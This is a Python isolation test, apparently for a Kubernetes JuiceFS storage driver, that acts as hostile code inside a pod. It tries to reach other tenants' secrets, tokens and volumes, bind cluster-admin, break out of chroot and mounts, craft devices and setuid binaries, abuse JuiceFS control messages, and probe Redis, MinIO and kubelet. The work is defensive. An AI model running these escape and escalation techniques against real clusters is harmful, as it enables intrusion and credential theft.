"""What hostile code in a pod tries to get at more than its own volume at /data, which is JuiceFS.

    inside.py GROUP [VALUE ...]      values that the test knows: names and addresses of what belongs to others

Each attempt prints a line: its name, a tab, and "refused: WHY" or "reached: WHAT". Attempts that are refused by
being shown something harmless say what it was. Nothing is left in the volume.
"""
import base64
import ctypes
import errno
import json
import os
import shutil
import socket
import ssl
import stat
import struct
import subprocess
import sys
import time
import urllib.error
import urllib.request

DATA = "/data"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount"
LIBC = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000


def tell(name, outcome):
    print(f"{name}\t{outcome}", flush=True)


def attempt(name, action):
    """The action returns what it reached, or None for nothing; an OSError is a refusal."""
    try:
        reached = action()
    except OSError as e:
        tell(name, f"refused: {errno.errorcode.get(e.errno, e)}")
        return
    tell(name, "refused: nothing" if reached is None else f"reached: {reached!r}")


# --- the API server


def ask(method, path, body=None):
    host = f"{os.environ['KUBERNETES_SERVICE_HOST']}:{os.environ['KUBERNETES_SERVICE_PORT']}"
    with open(TOKEN + "/token") as token:
        headers = {"Authorization": "Bearer " + token.read(), "Content-Type": "application/json"}
    request = urllib.request.Request(f"https://{host}{path}", body, headers, method=method)
    trust = ssl.create_default_context(cafile=TOKEN + "/ca.crt")
    with urllib.request.urlopen(request, context=trust, timeout=10) as answer:
        return answer.status


def api(own, other, other_pod, other_claim, other_volume, other_secret, own_secret, own_pod):
    v1, core = "/api/v1", "/api/v1/namespaces"
    attempts = [("GET", path) for path in (
        f"{v1}/secrets", f"{core}/juicebox/secrets", f"{core}/juicebox/secrets?watch=1", f"{core}/juicebox/secrets/{other_secret}",
        f"{core}/juicebox/secrets/{own_secret}", f"{core}/juicebox/secrets/juicebox-backend", f"{core}/{own}/secrets",
        f"{core}/{other}/secrets", f"{v1}/persistentvolumes", f"{v1}/persistentvolumes?watch=1",
        f"{v1}/persistentvolumes/{other_volume}", f"{v1}/persistentvolumeclaims", f"{core}/{other}/persistentvolumeclaims/{other_claim}",
        "/apis/storage.k8s.io/v1/csinodes", "/apis/storage.k8s.io/v1/csidrivers", "/apis/storage.k8s.io/v1/storageclasses",
        "/apis/storage.k8s.io/v1/volumeattachments", f"{v1}/nodes", f"{v1}/nodes/node1/proxy/pods", f"{v1}/pods",
        f"{core}/{other}/pods/{other_pod}", f"{core}/juicebox/pods", f"{core}/juicebox/pods?watch=1", f"{core}/juicebox/configmaps",
        f"{core}/juicebox/serviceaccounts", f"{core}/juicebox/events", f"{core}/{other}/events", f"{v1}/events",
        f"{core}/{other}/pods/{other_pod}/exec?command=id&stdout=1", f"{core}/{own}/pods/{own_pod}/exec?command=id&stdout=1",
        f"{core}/{other}/pods/{other_pod}/log", "/logs/", "/metrics", "/apis/rbac.authorization.k8s.io/v1/clusterroles")]
    pod = json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "mine"}, "spec": {
        "hostPID": True, "containers": [{"name": "c", "image": "juicebox.test/base:1"}]}}).encode()
    ephemeral = json.dumps({"spec": {"ephemeralContainers": [{"name": "e", "image": "juicebox.test/base:1"}]}}).encode()
    token = b'{"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}'
    binding = json.dumps({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "mine"},
                          "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                          "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": own}]}).encode()
    attempts += [("POST", path, body) for path, body in (
        (f"{core}/{own}/pods", pod), (f"{core}/juicebox/pods", pod),
        (f"{core}/juicebox/serviceaccounts/juicebox-controller/token", token),
        (f"{core}/juicebox/serviceaccounts/juicebox-node/token", token),
        (f"{core}/{own}/serviceaccounts/default/token", token),
        ("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", binding))]
    attempts += [("PATCH", f"{core}/{other}/pods/{other_pod}/ephemeralcontainers", ephemeral),
                 ("PATCH", f"{core}/{own}/pods/{own_pod}/ephemeralcontainers", ephemeral),
                 ("DELETE", f"{core}/juicebox/secrets/{other_secret}", None),
                 ("DELETE", f"{v1}/persistentvolumes/{other_volume}", None)]
    for method, path, *body in attempts:
        try:
            reached = f"reached: {ask(method, path, *body)}"
        except urllib.error.HTTPError as e:
            reached = f"{'refused' if e.code in (401, 403) else 'reached'}: {e.code}"
        tell(f"{method} {path}", reached)


# --- the node


def host(*names):
    """What is of the node's: its folders, its sockets, its processes. The names are those of another volume."""
    for path in ("/var/lib/kubelet", "/var/lib/kubelet/pods", "/var/lib/kubelet/plugins/csi.juicebox.io/csi.sock",
                 "/var/lib/kubelet/plugins/csi.juicebox.io/service", "/var/lib/kubelet/plugins/csi.juicebox.io/state",
                 "/var/lib/kubelet/plugins_registry", "/run/juicebox", "/run/juicebox-tmp", "/var/cache/juicebox",
                 "/run/containerd/containerd.sock", "/var/run/docker.sock", "/dev/fuse", "/dev/mem", "/dev/sda", "/dev/vda",
                 "/sys/fs/fuse/connections"):
        # An empty folder of sysfs is there in every container.
        attempt(path, lambda: os.listdir(path) or None if path.startswith("/sys/") else os.stat(path).st_mode)
    for name in ("/var/lib/kubelet/plugins/csi.juicebox.io/csi.sock", "/var/lib/kubelet/plugins/csi.juicebox.io/service/service.sock",
                 "/run/containerd/containerd.sock", "\0containerd", "\0/run/containerd/s"):
        attempt("connect to " + repr(name), lambda: connect(name))
    attempt("unix sockets that are not the pod's", lambda: [
        line for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7] or None)
    attempt("processes of others", lambda: [command for command in commands() if not allowed(command)] or None)
    attempt("environments with keys", lambda: [pid for pid in pids() if holds_keys(pid)] or None)
    for path in ("/proc/self/mountinfo", "/proc/self/mountstats", "/proc/self/cgroup", "/proc/mounts"):
        attempt(path + " names another volume", lambda: [name for name in names if name in open(path).read()] or None)
    attempt("/proc/1/root leads out", lambda: os.listdir("/proc/1/root/var/lib/kubelet"))
    attempt("/proc/1/cwd leads out", lambda: os.listdir("/proc/1/cwd/../../../../var/lib/kubelet"))
    attempt("kernel's memory", lambda: open("/proc/kcore", "rb").read(64) or None)
    attempt("kernel's trigger", lambda: open("/proc/sysrq-trigger", "w").write("h"))
    # Opened only: what is written there is the whole node's, and stays.
    attempt("core_pattern", lambda: opened("/proc/sys/kernel/core_pattern"))


def opened(path):
    os.close(os.open(path, os.O_WRONLY))
    return "opened for writing"


def connect(name):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(2)
        s.connect(name)
        return "connected"


def pids():
    return [name for name in os.listdir("/proc") if name.isdigit()]


def commands():
    for pid in pids():
        try:
            yield open(f"/proc/{pid}/cmdline").read().replace("\0", " ").strip()
        except OSError:
            pass  # it has ended


def allowed(command):
    return command.startswith(("sleep infinity", "sh -c", "python3 ")) or not command


def holds_keys(pid):
    try:
        return any(word in open(f"/proc/{pid}/environ").read() for word in ("META_PASSWORD", "MINIO_", "SECRET_KEY"))
    except OSError:
        return False


# --- paths and mounts


def paths(*_):
    made = os.path.join(DATA, "attempts")
    os.mkdir(made)
    os.chdir(made)
    try:
        walk()
        links()
        mounts()
        devices()
        setuid()
        handles()
    finally:
        os.chdir("/")
        shutil.rmtree(made)


def same(one, two):
    return os.path.samestat(os.stat(one), os.stat(two))


def walk():
    attempt("the parent of the volume", lambda: None if same(DATA + "/..", "/") else "not the container's root")
    attempt("many parents", lambda: None if same(DATA + "/.." * 40, "/") else "not the container's root")

    def by_descriptor():
        volume = os.open(DATA, os.O_RDONLY | os.O_DIRECTORY)
        try:
            up = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=volume)
            return None if os.path.samestat(os.fstat(up), os.stat("/")) else "not the container's root"
        finally:
            os.close(volume)
    attempt("the parent by descriptor", by_descriptor)
    attempt("a folder moved up", lambda: os.rename(DATA + "/attempts", DATA + "/../../attempts"))
    attempt("chroot in the volume", chroot)


def chroot():
    """The well-known way out of a chroot: it leads to the container's root only."""
    child = os.fork()
    if child == 0:
        try:
            os.mkdir("jail")
            outside = os.open("/", os.O_RDONLY)
            os.chroot("jail")
            os.fchdir(outside)
            for _ in range(40):
                os.chdir("..")
            os.chroot(".")
            os._exit(1 if os.path.exists("/var/lib/kubelet") else 0)
        except OSError as e:
            os._exit(e.errno if e.errno > 1 else 3)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    return "the node's root" if code == 1 else None


def links():
    for target in ("/var/lib/kubelet", "/proc/1/root/var/lib/kubelet", "/run/juicebox", "../" * 40 + "var/lib/kubelet",
                   "/proc/self/root/var/lib/kubelet"):
        def follow():
            os.symlink(target, "link")
            try:
                return os.listdir("link")
            finally:
                os.unlink("link")
        attempt(f"a symbolic link to {target}", follow)

    def container():
        os.symlink("/", "link")
        try:
            return None if same("link", "/") else "not the container's root"
        finally:
            os.unlink("link")
    attempt("a symbolic link to /", container)
    for source in ("/etc/passwd", "/bin/busybox", "/proc/1/environ", DATA + "/.jfs.control", DATA + "/.jfs.config"):
        attempt(f"a hard link to {source}", lambda: os.link(source, "hard"))
    for name in (".jfs.control", ".jfs.config"):
        attempt(f"{name} renamed", lambda: os.rename(f"{DATA}/{name}", "moved"))
        attempt(f"{name} removed", lambda: os.unlink(f"{DATA}/{name}"))
        attempt(f"{name} replaced", lambda: replace(f"{DATA}/{name}"))


def replace(path):
    with open("other", "w"):
        pass
    try:
        os.rename("other", path)
    finally:
        os.path.exists("other") and os.unlink("other")


def mount(source, target, kind, flags=0, data=None):
    if LIBC.mount(source.encode(), target.encode(), kind.encode(), flags, data) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return f"{kind} mounted"


def mounts():
    os.mkdir("point")
    trials = {"mount tmpfs": lambda: mount("none", "point", "tmpfs"),
              "mount proc": lambda: mount("none", "point", "proc"),
              "bind /": lambda: mount("/", "point", "none", MS_BIND),
              "bind the volume": lambda: mount(DATA, "point", "none", MS_BIND),
              "remount the volume with devices": lambda: mount("none", DATA, "none", MS_REMOUNT | MS_BIND),
              "mount FUSE": lambda: mount("fuse", "point", "fuse", 0, b"fd=3,rootmode=40000,user_id=0,group_id=0"),
              "unmount the volume": lambda: unmount(DATA)}
    for name, trial in trials.items():
        attempt(name, trial)
    in_user_namespace("remount the volume with devices", lambda: mount("none", DATA, "none", MS_REMOUNT | MS_BIND))
    in_user_namespace("unmount the volume", lambda: unmount(DATA))
    in_user_namespace("a device", lambda: device("null", stat.S_IFCHR, 1, 3))
    in_user_namespace("mount a disk", lambda: mount("/dev/vda", "point", "ext4"))


def unmount(path):
    if LIBC.umount2(path.encode(), 2) != 0:
        raise OSError(ctypes.get_errno(), "umount2")
    return "unmounted"


def in_user_namespace(name, action):
    """Root of an own user namespace has all capabilities, over what is its own only."""
    name += " in an own user namespace"
    child = os.fork()
    if child == 0:
        if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
            tell(name, f"refused: {errno.errorcode[ctypes.get_errno()]} by unshare")
        else:
            attempt(name, action)
        sys.stdout.flush()
        os._exit(0)
    os.waitpid(child, 0)


def device(name, kind, major, minor):
    os.mknod(name, 0o666 | kind, os.makedev(major, minor))
    try:
        os.close(os.open(name, os.O_RDWR))
        return "opened"
    finally:
        os.unlink(name)


def devices():
    # /dev/null and /dev/zero are devices that every container may use; the volume does not have them usable.
    for name, kind, major, minor in (("null", stat.S_IFCHR, 1, 3), ("zero", stat.S_IFCHR, 1, 5), ("mem", stat.S_IFCHR, 1, 1),
                                     ("fuse", stat.S_IFCHR, 10, 229), ("vda", stat.S_IFBLK, 254, 0), ("sda", stat.S_IFBLK, 8, 0)):
        attempt(f"the device {name} in the volume", lambda: device(name, kind, major, minor))


def setuid():
    """A setuid program of root in the volume, run by uid 1000; as uid 1000 itself, one of its own run by nobody else."""
    shutil.copy(os.path.realpath(shutil.which("python3")), "program")
    os.chmod("program", 0o6755)
    os.chmod(".", 0o755)

    def run():
        line = "import os; print(os.geteuid(), os.getegid())"
        if os.geteuid() == 0:
            done = subprocess.run(["./program", "-B", "-c", line], user=1000, group=1000, extra_groups=[], capture_output=True, text=True)
        else:
            done = subprocess.run(["./program", "-B", "-c", line], capture_output=True, text=True)
        said = done.stdout.strip()
        if not said:
            return f"no answer: {done.stderr}"
        return None if said == "1000 1000" else said
    attempt("a setuid program in the volume", run)


def handles():
    """open_by_handle_at knows no path: whoever may call it reads a whole filesystem."""
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]
    for path in (DATA, "/", "/etc/passwd", "/etc/hostname"):
        def open_it():
            handle, mount_id = Handle(128, 0), ctypes.c_int()
            if LIBC.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
                raise OSError(ctypes.get_errno(), "name_to_handle_at")
            at = os.open(path, os.O_RDONLY)
            try:
                opened = LIBC.open_by_handle_at(at, ctypes.byref(handle), os.O_RDONLY)
                if opened < 0:
                    raise OSError(ctypes.get_errno(), "open_by_handle_at")
                return "opened"
            finally:
                os.close(at)
        attempt(f"open_by_handle_at on {path}", open_it)


# --- JuiceFS's own files


INTERNAL = ("control", "config", "stats", "accesslog", "oplog", "ophistory", "trash")


def visible(*_):
    """Which of them there are: a line for each, not an attempt."""
    listed = os.listdir(DATA)
    for name in [".jfs." + name for name in INTERNAL] + ["." + name for name in INTERNAL]:
        try:
            mode = oct(os.stat(f"{DATA}/{name}").st_mode & 0o777)
        except OSError as e:
            mode = errno.errorcode[e.errno]
        print(f"{name}\t{mode}{' listed' if name in listed else ''}")


def dump(*_):
    """What can be read of them: the name and the bytes in base64."""
    for name in INTERNAL:
        try:
            with open(f"{DATA}/.jfs.{name}", "rb", buffering=0) as file:
                os.listdir(DATA)
                content = file.read(1 << 20) or b""
        except OSError as e:
            print(f"{name}\t{errno.errorcode[e.errno]}\t")
        else:
            print(f"{name}\tread\t{base64.b64encode(content).decode()}")


def message(command, payload=b""):
    """Sends a message to JuiceFS and returns all it answers, without the signs of progress."""
    control = os.open(DATA + "/.jfs.control", os.O_RDWR)
    try:
        os.write(control, struct.pack(">II", command, len(payload)) + payload)
        answer = b""
        end = time.monotonic() + 10
        while time.monotonic() < end:
            part = os.read(control, 1 << 16)
            answer += part
            if not part and answer:
                break
            time.sleep(0.05)
        return answer
    finally:
        os.close(control)


RMR, LEGACY_INFO, FILL_CACHE, INFO, CLONE, SUMMARY, COMPACT = 1002, 1003, 1004, 1005, 1006, 1007, 1008


def name8(name):
    return struct.pack(">B", len(name)) + name.encode()


def control(inode, marker):
    """Messages that name what is another's: an inode number that only another volume has, and paths of the node. The marker is
    in the name and the content of that inode."""
    foreign = int(inode)
    trials = {"info": (INFO, struct.pack(">QBBB", foreign, 1, 0, 1)),
              "info, raw": (INFO, struct.pack(">QBBB", foreign, 1, 1, 1)),
              "legacy info": (LEGACY_INFO, struct.pack(">QBB", foreign, 1, 1)),
              "summary": (SUMMARY, struct.pack(">QBBB", foreign, 8, 100, 1)),
              "compact": (COMPACT, struct.pack(">QH", foreign, 1)),
              "rmr": (RMR, struct.pack(">Q", foreign) + name8(marker) + b"\1"),
              "clone": (CLONE, struct.pack(">QQQ", foreign, 1, 1) + name8("cloned") + struct.pack(">HB", 0o22, 0)),
              "clone into": (CLONE, struct.pack(">QQQ", 1, 1, foreign) + name8("cloned") + struct.pack(">HB", 0o22, 0)),
              "delete a slice": (1000, struct.pack(">QI", foreign, 4096)),
              "compact a chunk": (1001, struct.pack(">QI", foreign, 0)),
              "an unknown command": (4242, b"x" * 64)}
    for path in ("/etc/passwd", "../../../../etc/passwd", "/var/lib/kubelet", "/" + marker, "/proc/1/environ"):
        listed = path.encode()
        trials["warm up " + path] = (FILL_CACHE, struct.pack(">I", len(listed)) + listed + struct.pack(">HBB", 1, 0, 0))
        trials["evict " + path] = (FILL_CACHE, struct.pack(">I", len(listed)) + listed + struct.pack(">HBB", 1, 0, 1))
        trials["rmr " + path] = (RMR, struct.pack(">Q", 1) + name8(path) + b"\1")
    for name, (command, payload) in trials.items():
        attempt("message: " + name, lambda: judged(command, message(command, payload), marker))
    attempt("a copy of another's file", lambda: os.stat(DATA + "/cloned").st_ino)


def judged(command, answer, marker):
    """None for an answer that gives nothing: an error number, a reason, or counts of nothing."""
    if marker.encode() in answer:
        return answer
    text = answer[answer.find(b"{"):] if b"{" in answer else b""
    if command == LEGACY_INFO:
        return None if b"no such file" in answer or b"not exist" in answer else answer
    if command == INFO:
        return None if json.loads(text).get("Failed") else answer
    if command == SUMMARY:
        return None if json.loads(text).get("Errno") else answer
    if command == FILL_CACHE:
        said = json.loads(text)
        return None if said.get("FileCount") == 0 and said.get("TotalBytes") == 0 else answer
    return None if answer[-1:] not in (b"", b"\0") else answer


def broken(*_):
    """Messages that JuiceFS can't make sense of. Its process may end of it: that is the sender's own."""
    for text in (b"\0", struct.pack(">II", INFO, 0), struct.pack(">II", RMR, 4) + b"\0" * 4, struct.pack(">II", CLONE, 1) + b"\0",
                 struct.pack(">II", FILL_CACHE, 4) + b"\xff" * 4, b"\xff" * 4096):
        try:
            at = os.open(DATA + "/.jfs.control", os.O_RDWR)
            try:
                os.write(at, text)
            finally:
                os.close(at)
        except OSError:
            pass  # while the next process is not there
    print("sent")


# --- the network


def network(node, redis, objects, bucket, other_lineage, other_number):
    """With the volume's own keys, which come as lines of standard input: user and password of Redis."""
    user, password = sys.stdin.readline().strip(), sys.stdin.readline().strip()
    require_servers(redis, objects, user, password)
    attempt("Redis without a password", lambda: redis_says(redis, [["DBSIZE"]]))
    attempt("Redis as its administrator", lambda: redis_says(redis, [["AUTH", password]]))
    for line in (["SELECT", other_number], ["SELECT", "1"], ["KEYS", "*"], ["ACL", "LIST"], ["CONFIG", "GET", "*"],
                 ["CLIENT", "LIST"], ["MONITOR"], ["SWAPDB", "0", other_number], ["MOVE", "setting", other_number],
                 ["EVAL", "return 1", "0"]):
        attempt("Redis with its own keys: " + " ".join(line), lambda: redis_says(redis, [["AUTH", user, password], line]))
    for path in (f"/{bucket}/{other_lineage}/owner", f"/{bucket}?list-type=2", "/", "/minio/admin/v3/info", "/minio/v2/metrics/cluster"):
        attempt("object store, nobody: " + path, lambda: http(f"http://{objects}{path}"))
    attempt("kubelet, nobody", lambda: http(f"https://{node}:10250/pods"))
    attempt("kubelet, the pod's token", lambda: http(f"https://{node}:10250/pods", TOKEN + "/token"))
    for port in (10255, 2379, 10249, 10248):
        attempt(f"{node}:{port}", lambda: http(f"http://{node}:{port}/"))
    for port in (9809, 9810):
        for path in ("/", "/debug/pprof/", "/mounts", "/../etc/passwd"):
            attempt(f"{node}:{port}{path}", lambda: http(f"http://{node}:{port}{path}"))


def require_servers(redis, objects, user, password):
    """Else the attempts would be refused for reaching nobody."""
    said = redis_says(redis, [["AUTH", user, password], ["PING"]])
    if said != b"+PONG":
        raise SystemExit(f"Redis says {said!r} to the volume's own keys")
    try:
        with urllib.request.urlopen(f"http://{objects}/", timeout=5):
            pass
    except urllib.error.HTTPError:
        pass  # an answer as well
    except OSError as e:
        raise SystemExit(f"the object store at {objects} does not answer: {e}") from e


def redis_says(address, commands):
    """What Redis says to the last command; an error of Redis is a refusal, a Redis that is not there is none."""
    name, port = address.rsplit(":", 1)
    try:
        connection = socket.create_connection((name, int(port)), 5)
    except OSError as e:
        raise SystemExit(f"no connection to Redis at {address}: {e}") from e
    with connection as s:
        stream = s.makefile("rb")
        for command in commands:
            words = [word.encode() for word in command]
            s.sendall(b"*%d\r\n" % len(words) + b"".join(b"$%d\r\n%s\r\n" % (len(word), word) for word in words))
            answer = stream.readline().strip()
            if answer.startswith(b"-"):
                if command is commands[-1]:
                    raise OSError(errno.EPERM, answer)
                raise AssertionError(answer)
        return answer


def http(url, token=None):
    request = urllib.request.Request(url)
    if token:
        with open(token) as file:
            request.add_header("Authorization", "Bearer " + file.read())
    try:
        with urllib.request.urlopen(request, context=ssl._create_unverified_context(), timeout=5) as answer:
            return f"{answer.status} {answer.read(200)}"
    except urllib.error.HTTPError as e:
        raise OSError(errno.EACCES, f"HTTP {e.code}") from e
    except urllib.error.URLError as e:
        raise OSError(getattr(e.reason, "errno", None) or errno.EIO, str(e)) from e


globals()[sys.argv[1]](*sys.argv[2:])
